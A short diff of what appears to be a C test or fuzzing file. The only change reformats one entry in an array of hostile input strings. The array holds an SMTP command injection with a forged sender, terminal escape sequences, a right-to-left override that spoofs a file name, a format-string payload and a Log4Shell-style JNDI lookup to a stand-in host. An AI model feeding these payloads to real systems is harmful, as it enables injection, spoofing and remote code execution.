@@ -25,7 +25,8 @@ static const char *const payloads[] = {
     "=?utf-8?Q?forged?=",
     "\r\n.\r\nMAIL FROM:<evil@example.com>\r\n",
     "\xff\xfe\xc0\x80 bad utf-8",
-    "\x1b]0;title\x07\x9b" "31m",
+    "\x1b]0;title\x07\x9b"
+    "31m",
     "\u202egnp.exe \u200b",
     "%s%n%x ${jndi:ldap://evil.example/a}",
 };
